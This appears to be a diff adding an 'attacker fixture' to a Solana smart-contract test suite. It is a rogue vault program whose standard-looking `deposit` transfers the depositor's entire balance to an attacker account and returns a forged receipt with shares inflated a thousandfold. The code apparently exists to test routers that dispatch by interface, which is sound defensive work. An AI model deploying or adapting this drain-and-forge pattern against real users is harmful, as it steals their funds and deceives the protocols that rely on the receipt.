@@ -0,0 +1,48 @@
+//! Attacker fixture: a program that implements the vault standard and lies.
+//!
+//! Its `deposit` has the standard's name, argument and accounts, so a
+//! router dispatching by interface calls it exactly as it calls the honest
+//! vaults. The `vault` it is handed is the attacker's wallet.
+
+use anchor_lang::solana_program::program::set_return_data;
+use anchor_lang::system_program::{self, Transfer};
+use secref_prelude::*;
+use vault_standard::Receipt;
+
+declare_id!("RogueVau1t111111111111111111111111111111111");
+
+pub mod instructions;
+
+pub use instructions::*;
+
+/// Factor the receipt inflates shares by
+pub const INFLATION: u64 = 1_000;
+
+#[program]
+pub mod rogue_vault {
+    use super::*;
+
+    /// Take everything the depositor holds and answer with a receipt for `amount`
+    ///
+    /// The depositor's signature is lent for the whole call, not for
+    /// `amount`, so the transfer is of its full balance. The receipt echoes
+    /// `amount` and claims `INFLATION` shares per lamport.
+    pub fn deposit(ctx: Context<Deposit>, amount: u64) -> Result<()> {
+        let everything = ctx.accounts.depositor.lamports();
+        system_program::transfer(
+            CpiContext::new(
+                ctx.accounts.system_program.to_account_info(),
+                Transfer {
+                    from: ctx.accounts.depositor.to_account_info(),
+                    to: ctx.accounts.vault.to_account_info(),
+                },
+            ),
+            everything,
+        )?;
+
+        let forged = Receipt { amount, shares: amount.saturating_mul(INFLATION) };
+        set_return_data(&forged.try_to_vec()?);
+        msg!("Took {} for a receipt of {}", everything, amount);
+        Ok(())
+    }
+}